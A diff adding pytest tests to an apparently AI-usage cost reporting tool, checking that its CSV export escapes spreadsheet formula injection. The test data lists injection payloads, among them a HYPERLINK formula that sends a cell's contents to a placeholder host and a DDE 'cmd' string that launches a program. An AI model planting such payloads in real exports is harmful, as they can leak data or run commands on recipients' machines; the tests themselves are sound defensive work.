@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from .conftest import RECORDS, TOTAL_COST, RunCli, rec, write_jsonl
+from .conftest import RECORDS, TOTAL_COST, RunCli, rec, write_jsonl, write_sqlite
 
 
 def report_json(cli: RunCli, *args: str) -> dict:
@@ -279,3 +279,92 @@ def test_unpriced_only_is_not_a_silent_zero(cli: RunCli, tmp_path: Path) -> None
     code, out, _ = cli("report", "--source", str(path))
     assert code == 0
     assert "n/a" in out
+
+
+# --- csv formula injection -------------------------------------------------------------------
+
+#: Text a spreadsheet would run as a formula (OWASP "CSV injection"): = + - @ tab and CR first.
+FORMULAS = ['=HYPERLINK("http://x.test/?q="&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+FORMULAS += ["\tTAB=1", "\r=CR"]
+
+
+def _csv_history(tmp_path: Path, kind: str) -> Path:
+    """One call per formula-like text, used as model, session name and tag; plus a refund."""
+    records = [
+        rec(
+            80 + i,
+            "2026-11-04T00:00:00.000Z",
+            "openai",
+            text,
+            1,
+            1,
+            "0.5",
+            session=(f"sess-{i}", text),
+            tags={"team": text},
+        )
+        for i, text in enumerate(FORMULAS)
+    ]
+    when = "2026-11-05T00:00:00.000Z"
+    records.append(rec(99, when, "openai", "refund", 1, 1, "-0.25", tags={"@k": "v"}))
+    if kind == "sqlite":
+        return write_sqlite(tmp_path / "usage.db", records, [])
+    return write_jsonl(tmp_path / "usage.jsonl", records)
+
+
+@pytest.mark.parametrize("kind", ["sqlite", "jsonl"])
+@pytest.mark.parametrize("by", ["model", "session", "tag:team"])
+def test_csv_neutralises_formula_text_cells(
+    cli: RunCli, tmp_path: Path, kind: str, by: str
+) -> None:
+    source = _csv_history(tmp_path, kind)
+    code, out, err = cli("report", "--source", str(source), "--by", by, "--format", "csv")
+    assert code == 0, err
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    header, body = rows[0], rows[1:]
+    column = {"model": "model", "session": "session", "tag:team": "tag:team"}[by]
+    shown = {row[header.index(column)] for row in body}
+    for text in FORMULAS:
+        assert "'" + text in shown, (text, shown)
+        assert text not in shown
+    for row in body:
+        for cell in row:
+            assert not cell or cell[0] not in "=+-@\t\r" or _is_number(cell), (cell, row)
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        Decimal(cell)
+    except ArithmeticError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("kind", ["sqlite", "jsonl"])
+def test_csv_keeps_numbers_numbers_and_plain_text_exact(
+    cli: RunCli, tmp_path: Path, kind: str
+) -> None:
+    source = _csv_history(tmp_path, kind)
+    code, out, _ = cli("report", "--source", str(source), "--by", "model", "--format", "csv")
+    assert code == 0
+    rows = csv.DictReader(io.StringIO(out, newline=""))
+    refund = next(row for row in rows if row["model"] == "refund")
+    assert refund["cost_usd"] == "-0.25"  # a negative number is a number: no quote in front
+    assert refund["provider"] == "openai" and refund["calls"] == "1"
+
+
+@pytest.mark.parametrize("kind", ["sqlite", "jsonl"])
+def test_detailed_csv_neutralises_every_text_column(cli: RunCli, tmp_path: Path, kind: str) -> None:
+    source = _csv_history(tmp_path, kind)
+    args = ("report", "--source", str(source), "--detailed", "--format", "csv")
+    code, out, _ = cli(*args)
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert len(rows) == len(FORMULAS) + 1  # a carriage return inside a cell is quoted
+    by_model = {row["model"]: row for row in rows}
+    for text in FORMULAS:
+        row = by_model["'" + text]
+        assert row["session_name"] == "'" + text
+        assert row["tags"] == "team=" + text  # starts with the key: nothing to neutralise
+    assert by_model["refund"]["cost_usd"] == "-0.25"
+    assert by_model["refund"]["input_tokens"] == "1"
+    assert by_model["refund"]["tags"] == "'@k=v"  # a tag KEY can start a formula too
